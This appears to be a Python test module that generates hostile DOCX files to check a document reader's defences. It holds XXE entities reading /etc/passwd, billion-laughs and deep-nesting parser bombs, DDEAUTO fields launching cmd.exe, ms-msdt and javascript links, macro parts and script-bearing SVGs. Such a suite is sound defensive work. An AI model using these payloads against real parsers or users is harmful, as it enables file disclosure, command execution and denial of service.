"""Hostile Word documents: what they fetch, run, hide and define; and XML made to burst a parser."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.archive_reading.papers import TYPES, W, paragraph

from .makers import EICAR, RELS, Hostile, link, png, word

MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MAIN = PLAIN_TYPE.removesuffix(".document.main+xml")


def field(*words: str) -> str:
    """A field whose instruction is spread over runs."""
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in words)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def body_xml(head: str, words: str, encoding: str = "utf-8") -> bytes:
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{head}'
    xml += (
        f"<w:document {W}><w:body><w:p><w:r><w:t>Open words. {words}</w:t></w:r></w:p></w:body></w:document>"
    )
    return xml.encode(encoding)


def defining(part: str, content: bytes) -> bytes:
    return word(more={part: content}) if part != "word/document.xml" else _bodied(content)


def _bodied(content: bytes) -> bytes:
    from .makers import box_of

    return box_of({"[Content_Types].xml": TYPES, "word/document.xml": content})


def laughs(levels: int, width: int = 10) -> str:
    more = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * width}">' for n in range(1, levels + 1))
    return f'<!DOCTYPE d [<!ENTITY l0 "lol">{more}]>'


def refused_words() -> Iterator[Hostile]:
    """Documents that are refused."""

    def one(kind: str, label: str, make: partial[bytes]) -> Hostile:
        return Hostile(kind, label, "minutes.docx", make, "refused")

    for encoding in ("utf-8", "utf-16"):
        for target in ("file:///etc/passwd", "http://127.0.0.1:9/x", "\\\\host\\share"):
            head = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{target}">]>'
            yield one("XXE", f"{target} in {encoding}", partial(_bodied, body_xml(head, "&x;", encoding)))
    for head in (
        '<!DOCTYPE d SYSTEM "http://127.0.0.1:9/d.dtd">',
        '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1:9/d.dtd"> %p;]>',
        '<!DOCTYPE d PUBLIC "x" "file:///etc/passwd">',
    ):
        yield one("XXE", head[:40], partial(_bodied, body_xml(head, "")))
    for part in ("word/styles.xml", "word/footnotes.xml", "word/header1.xml", "word/_rels/document.xml.rels"):
        yield one(
            "XXE",
            part,
            partial(defining, part, b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
        )
    for levels in (3, 9, 11, 30):
        yield one(
            "billion laughs", f"{levels} levels", partial(_bodied, body_xml(laughs(levels), f"&l{levels};"))
        )
    yield one(
        "billion laughs",
        "quadratic",
        partial(_bodied, body_xml(f'<!DOCTYPE d [<!ENTITY a "{"a" * 100_000}">]>', "&a;" * 5_000)),
    )
    yield one(
        "billion laughs",
        "in the styles",
        partial(defining, "word/styles.xml", f"{laughs(9)}<d>&l9;</d>".encode()),
    )
    yield one(
        "billion laughs",
        "behind a comment",
        partial(_bodied, body_xml(f"<!--{'x' * 5000}-->{laughs(9)}", "&l9;")),
    )
    macro = TYPES.replace(PLAIN_TYPE, MACRO_TYPE)
    vba = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    for label, make in (
        ("DOCM renamed", partial(word, types=macro)),
        (
            "DOCM with its project",
            partial(word, types=macro, more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        ),
        ("a project in a DOCX", partial(word, more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("a project under a capital name", partial(word, more={"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"})),
        ("a project's data", partial(word, more={"word/vbaData.xml": "<x/>"})),
        ("a project in the contents", partial(word, types=TYPES.replace("</Types>", vba))),
        (
            "a link to a project",
            partial(word, rels=link("vbaProject", "x.dat", external=False), more={"word/x.dat": b"x"}),
        ),
        (
            "a template with macros",
            partial(
                word,
                types=TYPES.replace(
                    PLAIN_TYPE, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
                ),
            ),
        ),
    ):
        yield one("macros", label, make)
    for label, kind in (
        ("a template", f"{MAIN}.template.main+xml"),
        ("a sheet", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        ("slides", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        ("nothing known", "text/html"),
        ("glossary", f"{MAIN}.document.glossary+xml"),
    ):
        yield one("another office file as DOCX", label, partial(word, types=TYPES.replace(PLAIN_TYPE, kind)))
    yield one("another office file as DOCX", "no contents", partial(word, types="<Types/>"))
    yield one("another office file as DOCX", "broken contents", partial(word, types="<Types"))
    for side in ((50_000, 50_000), (200_000, 1_000), (2**31 - 1, 2**31 - 1), (1, 2**31 - 1)):
        yield one("picture beyond measure", f"{side}", partial(word, more={"word/media/a.png": png(*side)}))
    gif = b"GIF89a" + (65_535).to_bytes(2, "little") * 2
    bmp = b"BM" + bytes(16) + (60_000).to_bytes(4, "little") * 2
    jpeg = b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08" + (65_500).to_bytes(2, "big") * 2 + bytes(20)
    for label, picture in (("GIF", gif), ("BMP", bmp), ("JPEG", jpeg)):
        yield one("picture beyond measure", label, partial(word, more={f"word/media/a.{label}": picture}))


def named_words() -> Iterator[Hostile]:
    """Documents that are kept, with what they do named."""

    def one(kind: str, label: str, finding: str, make: partial[bytes]) -> Hostile:
        return Hostile(kind, label, "minutes.docx", make, "named", frozenset({finding}))

    settings = "word/_rels/settings.xml.rels"
    for target in (
        *("http://127.0.0.1:9/t.dotm", "https://example.org/t.dotx", "file:///t.dotm", "\\\\host\\s\\t.dotm"),
        *("ftp://host/t", "//host/t", "mhtml:http://host/x", "x" * 5_000),
    ):
        rels = f'<Relationships xmlns="{RELS}">{link("attachedTemplate", target)}</Relationships>'
        yield one("remote template", target[:30], "remote-template", partial(word, more={settings: rels}))
    for kind in ("image", "frame", "video", "audio", "header", "customXml", "somethingNew"):
        yield one("remote part", kind, "remote-part", partial(word, rels=link(kind, "http://127.0.0.1:9/x")))
    yield one(
        "linked object",
        "OLE link",
        "linked-object",
        partial(word, rels=link("oleObject", "file:///c:/x.xls")),
    )
    yield one(
        "linked object", "package", "linked-object", partial(word, rels=link("package", "\\\\h\\x.xlsx"))
    )
    yield one(
        "linked object",
        "html:",
        "linked-object",
        partial(word, rels=link("oleObject", "mhtml:http://h!x-usc:http://h")),
    )
    for name in (*("oleObject1.bin", "sheet.xlsx", "tool.exe", "a.zip", "b.docm", "c.html", "run.lnk"),):
        yield one(
            "embedded object", name, "embedded-object", partial(word, more={f"word/embeddings/{name}": b"x"})
        )
    yield one(
        "embedded object", "a virus", "embedded-object", partial(word, more={"word/embeddings/e.com": EICAR})
    )
    yield one(
        "embedded object",
        "outside its folder",
        "embedded-object",
        partial(word, more={"word/x/payload.exe": b"MZ"}),
    )
    yield one(
        "embedded object",
        "in the body",
        "embedded-object",
        partial(word, "<w:p><w:r><w:object/></w:r></w:p>"),
    )
    for words in (
        ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',), ("DDE excel x y",), ("DD", "EAU", "TO cmd"),
        ("dDeAuTo cmd",), ("  DDE  ",), ("D", "D", "E", " cmd"), ("INCLUDETEXT http://h/x",),
        ("INCLUDEPICTURE \\\\h\\x.png \\d",), ("LINK Excel.Sheet.8 \\\\h\\x.xls",), ("DATABASE \\d x",),
        ("IMPORT \\\\h\\x",), ("MACROBUTTON run Click",), ("QUOTE 68 68 69 65",), ("EMBED Package",),
        ("IF 1 = 1 ", "DDEAUTO cmd"),
    ):  # fmt: skip
        yield one("acting field", "|".join(words)[:30], "acting-field", partial(word, field(*words)))
    simple = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    yield one("acting field", "simple", "acting-field", partial(word, simple))
    header = f"<w:hdr {W}>{field('DDEAUTO cmd')}</w:hdr>"
    yield one("acting field", "in a header", "acting-field", partial(word, more={"word/header1.xml": header}))
    yield one(
        "foreign chunk",
        "link",
        "foreign-chunk",
        partial(word, rels=link("aFChunk", "a.html", external=False), more={"word/a.html": "<script>"}),
    )
    yield one("foreign chunk", "element", "foreign-chunk", partial(word, "<w:altChunk/>"))
    yield one(
        "foreign chunk", "sub-document", "foreign-chunk", partial(word, rels=link("subDocument", "x.docx"))
    )
    yield one("foreign chunk", "by its name", "foreign-chunk", partial(word, more={"word/afchunk1.mht": "x"}))
    for target in (
        *("javascript:alert(1)", "file:///etc/passwd", "\\\\host\\share", "ms-msdt:/id", "search-ms:query=x"),
        *("data:text/html,x", "vbscript:x", "ms-word:ofe|u|http://h/x", " javascript:x", "smb://h/x"),
    ):
        yield one("odd link", target[:30], "odd-link", partial(word, rels=link("hyperlink", target)))
    for name, finding in (
        ("word/activeX/activeX1.bin", "active-control"),
        ("word/activeX/activeX1.xml", "active-control"),
        ("customUI/customUI14.xml", "added-program"),
        ("word/webextensions/webextension1.xml", "added-program"),
    ):
        yield one("active control", name, finding, partial(word, more={name: "<x/>"}))
    for label, content in (
        ("script", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("handler", '\n<svg onload="alert(1)"/>'),
        ("EPS", "%!PS-Adobe\n(x) run"),
        ("web page", "<html><script>alert(1)</script>"),
        ("PNG with a page behind", png(1, 1, tail=b"<script>alert(1)</script>")),
    ):
        yield one("odd picture", label, "odd-picture", partial(word, more={"word/media/a.svg": content}))


def deep_words() -> Iterator[Hostile]:
    """Documents whose shape is made to burst the reader."""
    shapes = {
        "content controls": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
        "tables": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        "insertions": ("<w:ins>", "</w:ins>"),
        "text boxes": ("<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>"),
    }
    for label, (begin, end) in shapes.items():
        for depth in (50, 300, 20_000):
            body = begin * depth + paragraph("words") + end * depth
            yield Hostile(
                "nested beyond reason", f"{label}, {depth}", "minutes.docx", partial(word, body), "harmless"
            )
    for label, body in (
        ("a hundred thousand paragraphs", "<w:p/>" * 100_000),
        ("one paragraph of many runs", f"<w:p>{'<w:r><w:t>x</w:t></w:r>' * 50_000}</w:p>"),
        ("a row of many cells", f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 20_000}</w:tr></w:tbl>"),
        ("one word without end", paragraph("x" * 500_000)),
    ):
        yield Hostile("long beyond reason", label, "minutes.docx", partial(word, body), "harmless")
